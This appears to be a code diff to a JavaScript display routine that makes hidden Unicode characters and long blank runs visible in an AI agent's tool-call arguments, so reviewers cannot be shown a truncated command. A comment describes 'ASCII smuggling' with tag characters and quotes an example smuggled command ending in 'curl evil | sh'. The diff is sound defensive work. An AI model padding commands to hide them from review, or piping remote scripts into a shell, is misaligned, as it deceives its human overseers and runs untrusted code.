@@ -84,12 +84,26 @@
   // property, astral planes included (the u flag): tag characters
   // U+E0000..E007F and the variation selectors supplement U+E0100..E01EF
   // draw as nothing and carry whole hidden texts ("ASCII smuggling"); they
-  // show as \u{XXXXX}.
-  const HIDDEN = /[\p{Default_Ignorable_Code_Point}\p{Cf}\u0080-\u009F\u2028\u2029]/gu;
+  // show as \u{XXXXX}. Blank characters other than the space (U+00A0, the
+  // U+2000 spaces, U+3000, U+2800 BRAILLE PATTERN BLANK) show as \uXXXX
+  // too: a few thousand of them wrapped into screens of empty lines and
+  // pushed the end of an argument ("ls /tmp<blank>; curl evil | sh") out of
+  // the arguments' box. A run of four or more of one such character shows
+  // once with its count (\u00a0×4000), and so does a run of 16 or more
+  // spaces inside a line (not the JSON's own indentation): what follows a
+  // run stays in view. In the arguments a backslash the agent wrote shows
+  // as \\ (JSON), so neither form can be faked by the agent's text.
+  const HIDDEN = /([\p{Default_Ignorable_Code_Point}\p{Cf}\p{Zs}\u0080-\u009F\u2028\u2029\u2800])\1*/gu;
+  const RUN_MIN = 4, SPACES_MIN = 16;
   function visible(text) {
-    return String(text).replace(HIDDEN, (c) => {
-      const cp = c.codePointAt(0);
-      return cp > 0xFFFF ? '\\u{' + cp.toString(16) + '}' : '\\u' + cp.toString(16).padStart(4, '0');
+    return String(text).replace(HIDDEN, (run, c, at, all) => {
+      if (c === ' ') {
+        const indent = at === 0 || all[at - 1] === '\n';
+        return indent || run.length < SPACES_MIN ? run : '\\u0020\u00D7' + run.length;
+      }
+      const cp = c.codePointAt(0), n = run.length / c.length;
+      const e = cp > 0xFFFF ? '\\u{' + cp.toString(16) + '}' : '\\u' + cp.toString(16).padStart(4, '0');
+      return n < RUN_MIN ? e.repeat(n) : e + '\u00D7' + n;
     });
   }
 
